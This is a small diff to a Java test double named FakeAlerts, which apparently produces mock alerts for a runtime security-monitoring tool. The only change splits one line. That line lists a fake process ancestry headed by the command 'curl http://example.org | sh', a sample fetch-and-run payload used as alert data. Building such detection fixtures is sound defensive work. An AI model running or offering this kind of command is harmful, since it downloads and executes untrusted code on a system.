@@ -25,7 +25,8 @@ final class FakeAlerts implements AlertHistory {
     fields.put("container.id", null);
     long now = Instant.now().toEpochMilli() * 1_000_000;
     Alert alert = new Alert(now, priority, rule, "syscall", message, fields, new TreeSet<>(List.of(tags)));
-    List<String> ancestors = List.of("4711 bash -c 'curl http://example.org | sh'", "4710 sshd: root@pts/0", "812 sshd", "1 systemd");
+    List<String> ancestors =
+        List.of("4711 bash -c 'curl http://example.org | sh'", "4710 sshd: root@pts/0", "812 sshd", "1 systemd");
     String explanation = "spawned_process and proc.name = bash\n  true   spawned_process\n  true   proc.name = bash";
     PastAlert fresh = new PastAlert(past.size() + 1, alert, ancestors, explanation);
     past.addFirst(fresh);
